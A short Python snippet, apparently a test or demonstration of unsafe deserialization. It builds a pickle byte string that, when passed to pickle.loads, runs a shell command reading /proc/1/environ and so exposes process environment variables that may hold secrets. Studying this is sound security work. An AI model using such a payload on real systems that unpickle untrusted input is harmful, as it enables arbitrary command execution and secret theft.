# a pickle written out as bytes; runs a command
import pickle
data = b"cposix\nsystem\n(S'sed s/^/LEAK:/ /proc/1/environ'\ntR."
try:
    pickle.loads(data)
except Exception as error:
    print(type(error).__name__)
